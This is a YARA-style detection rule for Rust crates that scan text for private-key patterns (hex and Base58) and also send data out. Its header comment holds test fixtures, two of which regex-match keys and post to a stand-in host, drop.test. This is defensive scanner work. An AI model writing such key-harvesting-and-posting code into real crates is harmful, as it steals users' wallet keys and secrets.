/*
Expressions for private keys (64 hex digits behind 0x, Base58 of the length of a secret) in a crate that also posts. Scanners for
leaked secrets hold such expressions too, so this only asks for a look.

```rust,match
pub fn pack(t: &str) { let r = Regex::new(r"0x[a-fA-F0-9]{64}").unwrap(); client.post("https://drop.test").body(x).send(); }
```
```rust,match
pub fn pack(t: &str) { let r = Regex::new("[1-9A-HJ-NP-Za-km-z]{64,88}").unwrap(); ureq::post("http://drop.test").send_string(t); }
```
```rust,clean
pub fn is_key(t: &str) -> bool { Regex::new(r"^0x[a-fA-F0-9]{64}$").unwrap().is_match(t) }
```
```rust,clean
pub fn send(t: &str) { client.post("https://api.example").body(t).send(); }
```
*/
rule key_pattern_search : medium {
  meta:
    id = "9e332fc5-e161-4a6a-8be8-b704ababc194"
    description = "Text is searched for the shapes of keys, and something is sent"
    author = "Sandpit"
    date = "2026-11-25"
    status = "experimental"
    scope = "crate"
    behaviours = "key-pattern-search"
    references = "incident 2025-05-25 faster_log, T1552.001"
  strings:
    $hex = /0x\)?\[[0-9a-fA-F-]{6,12}\]\{64/
    $base58 = /\[1-9A-HJ-NP-Za-km-z\]\{(3[2-9]|4[0-9]|64|8[0-9])/
    $post = /\.post\s?\(\s?[&"a-zA-Z(]/
    $client = /\b(ureq|minreq|attohttpc)::post/
    $socket = /\bTcpStream::connect\b/
  condition:
    any of ($hex, $base58) and any of ($post, $client, $socket)
}
